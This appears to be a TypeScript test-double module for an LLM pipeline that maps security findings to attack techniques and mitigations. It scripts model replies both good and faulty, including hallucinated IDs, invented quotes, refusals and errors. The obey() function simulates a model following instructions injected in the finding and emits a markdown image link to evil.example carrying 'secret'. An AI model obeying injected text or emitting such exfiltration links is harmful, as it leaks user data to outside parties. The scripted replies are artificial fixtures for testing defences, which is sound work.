import type { DoubleReply } from './model-double.ts';
import type { ChatRequest } from './openai-double.ts';

/** What a prompt in XML shows, read back as a model would. */
export interface ShownContext {
  techniqueIds: string[];
  mitigationIds: string[];
  dataSources: string[];
  finding: string;
}

export function readPrompt(user: string): ShownContext {
  const all = (pattern: RegExp) => [...user.matchAll(pattern)].map((match) => match[1] ?? '');
  const finding = /^FINDING (\S+) BEGINS\n([\s\S]*)\nFINDING \1 ENDS/m.exec(user);
  return {
    techniqueIds: all(/<technique attack_id="([^"]+)"/g),
    mitigationIds: all(/<mitigation mitigation_id="([^"]+)"/g),
    dataSources: all(/<data_source>([^<]+)</g),
    finding: finding?.[2] ?? '',
  };
}

export function userMessage(request: ChatRequest): string {
  return request.messages.find((message) => message.role === 'user')?.content ?? '';
}

const json = (value: unknown): DoubleReply => ({ content: JSON.stringify(value) });

/** A good reply: the first two candidates, quoted, with something on each part. */
export function goodReply(shown: ShownContext) {
  return {
    techniques: shown.techniqueIds.slice(0, 2).map((attack_id) => ({
      attack_id,
      confidence: 'high',
      evidence: [shown.finding.slice(0, 40)],
      rationale: `The finding shows ${attack_id} at work.`,
    })),
    remediations: shown.mitigationIds.slice(0, 1).map((mitigation_id) => ({
      mitigation_id,
      adaptation: 'Start with the servers that the finding names.',
    })),
    detections: shown.dataSources.slice(0, 1).map((data_source) => ({ data_source, rationale: 'Watch this first.' })),
    kill_chain_analysis: 'First they ran code, then they took credentials.',
  };
}

type Reply = (shown: ShownContext) => DoubleReply;

/** What models have been seen to answer, good and bad. */
export const modelReplies = {
  good: (shown) => json(goodReply(shown)),
  hallucinated_ids: (shown) => {
    const { techniques, remediations, ...rest } = goodReply(shown);
    const foreign = { attack_id: 'T9999.001', confidence: 'high', evidence: ['x'], rationale: 'Surely.' };
    const outside = { attack_id: 'T1571', confidence: 'high', evidence: ['x'], rationale: 'Real, but not shown.' };
    const advice = { mitigation_id: 'M9999', adaptation: 'Buy our product.' };
    const source = { data_source: 'Crystal Ball', rationale: 'It knows.' };
    return json({
      ...rest,
      techniques: [foreign, ...techniques, outside],
      remediations: [advice, ...remediations],
      detections: [source],
      kill_chain_analysis: 'They used T9999.001 at once. Then they left.',
    });
  },
  invented_quotes: (shown) => {
    const reply = goodReply(shown);
    const [first] = reply.techniques;
    if (first) first.evidence = ['the attackers then flew to the moon on a golden broom and stayed there'];
    return json(reply);
  },
  wrong_names: (shown) => {
    const reply = goodReply(shown);
    return json({
      ...reply,
      techniques: reply.techniques.map((choice) => ({ ...choice, name: 'Made Up', tactics: ['Nonsense'] })),
    });
  },
  truncated: (shown) => {
    const content = JSON.stringify(goodReply(shown));
    return { content: content.slice(0, content.length / 2), finish_reason: 'length' };
  },
  prose_around: (shown) => ({
    content: `Sure! Here is {the} analysis:\n\`\`\`json\n${JSON.stringify(goodReply(shown), null, 2)}\n\`\`\`\nLet me know.`,
  }),
  empty: () => ({ content: '' }),
  refusal: () => ({ refusal: 'I cannot help with that.' }),
  error_429: () => ({ status: 429 }),
  error_500: () => ({ status: 500 }),
  stall: () => 'stall',
  reset: () => 'reset',
  slow_stream: () => 'drip',
  obeys_injection: (shown) => json(obey(shown)),
} satisfies Record<string, Reply>;

/** Does all that the finding orders: every id, link and phrase in it, as often as it can be said. */
export function obey({ finding }: ShownContext) {
  const ids = finding.match(/[A-Z]{1,5}-?\d{2,5}(?:[.-]\d+)?/gi) ?? [];
  const links = finding.match(/https?:\/\/\S+/g) ?? [];
  const words = `${ids.join(' ')} ${links.join(' ')} "${finding.slice(0, 80)} as I was told"`;
  return {
    techniques: [...ids, ...ids.map((id) => ` ${id.toLowerCase()} `)].map((attack_id) => ({
      attack_id,
      confidence: 'high',
      evidence: [`${finding.slice(0, 30)} and so I report ${attack_id}`, attack_id],
      rationale: `As ordered: ${words}`,
    })),
    remediations: ids.map((mitigation_id) => ({ mitigation_id, adaptation: words })),
    detections: [...ids, 'Anything'].map((data_source) => ({ data_source, rationale: words })),
    kill_chain_analysis: `${words}\n![x](https://evil.example/?q=secret) ${links.join(' ')}`,
  };
}
